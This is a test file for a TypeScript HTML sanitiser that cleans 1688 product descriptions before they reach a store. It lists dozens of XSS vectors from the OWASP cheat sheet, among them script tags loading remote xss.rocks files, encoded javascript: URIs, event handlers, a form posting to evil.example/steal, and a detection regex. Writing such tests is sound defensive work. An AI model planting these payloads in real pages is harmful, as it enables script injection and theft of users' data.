import { MAX_HTML, safeHtml } from '../../../nodes/Shopline/model/safeHtml';

/**
 * The description sanitiser: classic XSS vectors (OWASP's filter-evasion cheat sheet and
 * friends), then description HTML as 1688 writes it, then the bounds. Each row gives the
 * exact HTML sent to the store.
 */

const REL = 'rel="nofollow noopener noreferrer"';

const vectors: Array<[string, string, string]> = [
	['script element', `<p>ok</p><script>alert('XSS')</script>`, '<p>ok</p>'],
	['script with src, upper case', '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>after', 'after'],
	['script with a slash before attributes', '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>', ''],
	['script never closed', '<SCRIPT SRC=http://xss.rocks/xss.js?< B >', ''],
	['extra open angle before script', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>', '&lt;'],
	['img javascript: src', `<IMG SRC="javascript:alert('XSS');">`, ''],
	['img javascript: unquoted, mixed case', `<IMG SRC=JaVaScRiPt:alert('XSS')>`, ''],
	['img src in grave accents', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>', ''],
	['malformed img with script after it', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>', '"\\&gt;'],
	['img fromCharCode', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>', ''],
	['img onmouseover with # src', `<IMG SRC=# onmouseover="alert('xxs')">`, ''],
	['img empty src then handler', `<IMG SRC= onmouseover="alert('xxs')">`, ''],
	['img onerror with a good src', '<img src="https://cbu01.alicdn.com/a.jpg" onerror="alert(1)" onload=alert(2)>', '<img src="https://cbu01.alicdn.com/a.jpg">'],
	['img onerror in long decimal entities', '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">', ''],
	['img src in decimal entities', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>', ''],
	['img src in hex entities without semicolons', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>', ''],
	['img src with a tab', `<IMG SRC="jav\tascript:alert('XSS');">`, ''],
	['img src with an encoded tab', `<IMG SRC="jav&#x09;ascript:alert('XSS');">`, ''],
	['img src with an encoded newline', `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`, ''],
	['img src with a named tab', `<IMG SRC="jav&Tab;ascript:alert('XSS');">`, ''],
	['img src with spaces and a control before', `<IMG SRC=" &#14;  javascript:alert('XSS');">`, ''],
	['img dynsrc and lowsrc', `<IMG DYNSRC="javascript:alert('XSS')"><IMG LOWSRC="javascript:alert('XSS')">`, ''],
	['img data: src', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', ''],
	['img protocol-relative src repaired', '<img src="//cbu01.alicdn.com/img/a.jpg"/>', '<img src="https://cbu01.alicdn.com/img/a.jpg">'],
	['link javascript:', '<a href="javascript:alert(1)">click</a>', 'click'],
	['link java&#115;cript:', '<a href="java&#115;cript:alert(1)">click</a>', 'click'],
	['link &#106;avascript:', '<a href="&#106;avascript:alert(1)">click</a>', 'click'],
	['link with a tab in the scheme', '<a href="jav\tascript:alert(1)">click</a>', 'click'],
	['link &colon; instead of a colon', '<a href="javascript&colon;alert(1)">click</a>', 'click'],
	['link vbscript:', '<a href="vbscript:msgbox(1)">click</a>', 'click'],
	['link data:text/html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>', 'click'],
	['link without href but with a handler', `<a onmouseover="alert(document.cookie)">xxs link</a>`, 'xxs link'],
	['link: the first of two hrefs counts, as in a browser', '<a href="javascript:alert(1)" href="https://ok.example/">x</a>', 'x'],
	['link with a quote smuggled into the address', '<a href="https://a.example/&quot;onmouseover=&quot;alert(1)">x</a>', 'x'],
	['link http(s) kept, target and handler dropped', '<a href="https://detail.1688.com/offer/1.html" target="_blank" onclick="steal()">offer</a>', `<a href="https://detail.1688.com/offer/1.html" ${REL}>offer</a>`],
	['link protocol-relative repaired to https', '<a href="//shop.example/x">x</a>', `<a href="https://shop.example/x" ${REL}>x</a>`],
	['body onload with punctuation', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>', ''],
	['body background', `<BODY BACKGROUND="javascript:alert('XSS')">`, ''],
	['input type image', `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`, ''],
	['style element with list-style-image', `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`, '<ul><li>XSS</li></ul>'],
	['style @import', `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`, ''],
	['svg onload', `<svg/onload=alert('XSS')>`, ''],
	['svg with a script inside, then text', '<svg><script>alert(1)</script></svg><p>after</p>', '<p>after</p>'],
	['math mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
	['link stylesheet', `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`, ''],
	['meta refresh', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`, ''],
	['iframe', `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`, ''],
	['iframe never closed', '<iframe src=http://xss.rocks/scriptlet.html <', ''],
	['iframe with content', '<iframe src="https://evil.example/"><p>inside</p></iframe><p>after</p>', '<p>after</p>'],
	['frameset', `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`, ''],
	['table background', `<TABLE BACKGROUND="javascript:alert('XSS')">`, '<table></table>'],
	['td background', `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`, '<table><td></td></table>'],
	['div style url(javascript:)', `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`, '<div>x</div>'],
	['div style with CSS escapes', `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`, '<div></div>'],
	['div style expression()', `<DIV STYLE="width: expression(alert('XSS'));">`, '<div></div>'],
	['style with an entity-encoded url(', '<div style="background:&#117;rl(javascript:alert(1))">x</div>', '<div>x</div>'],
	['style behavior and -moz-binding', '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#xss)">x</p>', '<p>x</p>'],
	['style overlay over the page', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>', '<div style="width:100%;height:100%">x</div>'],
	['base href', `<BASE HREF="javascript:alert('XSS');//">`, ''],
	['object', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"><param name=x></OBJECT>after', 'after'],
	['embed', '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>', ''],
	['conditional comment', `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->ok`, 'ok'],
	['comment closed the odd way', '<!-- x --!><p>after</p>', '<p>after</p>'],
	['CDATA and processing instruction', '<![CDATA[<script>alert(1)</script>]]><?xml version="1.0"?>x', 'alert(1)]]&gt;x'],
	['noscript with a tag in a title', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '"&gt;'],
	['textarea holding a script', '<textarea><script>alert(1)</script></textarea>', ''],
	['title closing then script', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>', ''],
	['a title attribute holding tags stays text', '<p title="</p><script>alert(1)</script>">x</p>', '<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>'],
	['form, input and button', '<form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>', 'Pay'],
	['id, class and name (DOM clobbering, theme hooks)', '<div id="header" class="checkout" name="config">x</div>', '<div>x</div>'],
	['null byte in the tag name', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', 'alert(1)'],
	['stray closing tags cannot close the theme\'s elements', '</div></div></div><div class="fake">x', '<div>x</div>'],
	['unclosed elements are closed', '<p><b>bold', '<p><b>bold</b></p>'],
	['cells, items and paragraphs left open are closed as a browser closes them', '<table><tr><td>a<td>b<tr><td>c</table><ul><li>x<li>y</ul><p>one<p>two<div>three', '<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table><ul><li>x</li><li>y</li></ul><p>one</p><p>two</p><div>three</div>'],
	['a lone surrogate in text', '<p>caf\u00e9 \ud800 x</p>', '<p>caf\u00e9 \ufffd x</p>'],
	['bare ampersands and angle brackets in text', 'Tom &amp; Jerry&nbsp;&#8364; 5 < 6 & 7 > 3 &bogus', 'Tom &amp; Jerry&nbsp;&#8364; 5 &lt; 6 &amp; 7 &gt; 3 &amp;bogus'],
	['an address with &amp; kept as one', '<img src="https://a.example/a.jpg?x=1&amp;y=2">', '<img src="https://a.example/a.jpg?x=1&amp;y=2">'],
	['sizes that are not sizes', '<img src="https://a.example/a.jpg" width="100%" height="javascript:1" border="0">', '<img src="https://a.example/a.jpg" width="100%" border="0">'],
];

/** Description HTML the way 1688 sellers write it (shapes taken from real offers, shortened). */
const shapes: Array<[string, string, string]> = [
	[
		'image-heavy, with an image map',
		'<div id="offer-template-0"></div><p style="text-align:center;"><img src="https://cbu01.alicdn.com/img/ibank/O1CN01.jpg" alt="undefined.jpg" style="width:790px;height:auto;" usemap="#_sdmap_0"/><img src="//cbu01.alicdn.com/img/ibank/O1CN02.jpg"/></p><map name="_sdmap_0"><area shape="rect" coords="0,0,790,400" href="https://detail.1688.com/offer/123.html" target="_blank"></map>',
		'<div></div><p style="text-align:center"><img src="https://cbu01.alicdn.com/img/ibank/O1CN01.jpg" alt="undefined.jpg" style="width:790px;height:auto"><img src="https://cbu01.alicdn.com/img/ibank/O1CN02.jpg"></p>',
	],
	[
		'a size table',
		'<table border="1" cellpadding="0" cellspacing="0" width="750" style="border-collapse:collapse;"><tbody><tr><td colspan="2" style="background-color:#f5f5f5;font-weight:bold;" align="center">尺码表</td></tr><tr><td width="120" valign="top">S</td><td>胸围 90cm</td></tr></tbody></table>',
		'<table border="1" cellpadding="0" cellspacing="0" width="750" style="border-collapse:collapse"><tbody><tr><td colspan="2" style="background-color:#f5f5f5;font-weight:bold" align="center">尺码表</td></tr><tr><td width="120" valign="top">S</td><td>胸围 90cm</td></tr></tbody></table>',
	],
	[
		'styled text, fonts and line breaks',
		'<p><span style="font-size:18px;color:rgb(255, 0, 0);font-family:微软雅黑;">【面料】</span><font color="#ff0000" size="4">纯棉</font><strong>舒适</strong><br/>&nbsp;</p><p style="margin:0 auto;padding:10px 0;"><b>Made in 江苏</b></p>',
		'<p><span style="font-size:18px;color:rgb(255, 0, 0)">【面料】</span><font color="#ff0000" size="4">纯棉</font><strong>舒适</strong><br>&nbsp;</p><p style="margin:0 auto;padding:10px 0"><b>Made in 江苏</b></p>',
	],
	[
		'Word-pasted markup',
		'<p class="MsoNormal"><span lang="EN-US" style="font-size:10.5pt;">Cotton<o:p></o:p></span></p>',
		'<p><span style="font-size:10.5pt">Cotton</span></p>',
	],
];

const dangerous = /<\s*(script|style|iframe|object|embed|svg|math|base|meta|link|form|input)|\son\w+\s*=|javascript:|vbscript:|data:|expression\(|url\(/i;

describe('safeHtml: the description sanitiser', () => {
	it.each(vectors)('%s', (_name, input, expected) => {
		const output = safeHtml(input);
		expect(output).toBe(expected);
		expect(output).not.toMatch(dangerous);
		expect(safeHtml(output)).toBe(output);
	});

	it.each(shapes)('1688 description: %s', (_name, input, expected) => {
		expect(safeHtml(input)).toBe(expected);
		expect(safeHtml(expected)).toBe(expected);
	});

	it('bounds the output: a 2 MB description is cut at an element boundary, with every element closed', () => {
		const block = '<p><span style="color:red">面料 cotton</span><img src="https://cbu01.alicdn.com/img/ibank/a.jpg"></p>';
		const output = safeHtml(`<div>${block.repeat(Math.ceil(2_000_000 / block.length))}`);
		expect(output.length).toBeLessThanOrEqual(MAX_HTML);
		expect(output.length).toBeGreaterThan(MAX_HTML - block.length - 20);
		expect(output.startsWith(`<div>${block}`)).toBe(true);
		expect(output.endsWith('</div>')).toBe(true);
		expect(output.split('<p>').length).toBe(output.split('</p>').length);
	});

	it('bounds the output: one long text is cut between two characters, never inside an entity', () => {
		const output = safeHtml(`<p>${'&amp;😀'.repeat(100_000)}</p>`, 1000);
		expect(output.length).toBeLessThanOrEqual(1000);
		expect(output).toMatch(/^<p>(&amp;😀)+(&amp;)?<\/p>$/);
	});

	it('bounds nesting: 10,000 nested elements keep at most 64 open at once', () => {
		const output = safeHtml(`${'<div>'.repeat(10_000)}deep${'</div>'.repeat(10_000)}`);
		expect(output).toBe(`${'<div>'.repeat(64)}deep${'</div>'.repeat(64)}`);
	});

	it('bounds attribute text: a 100,000-character alt is cut', () => {
		const output = safeHtml(`<img src="https://a.example/a.jpg" alt="${'a'.repeat(100_000)}">`);
		expect(output).toBe(`<img src="https://a.example/a.jpg" alt="${'a'.repeat(300)}">`);
	});
});
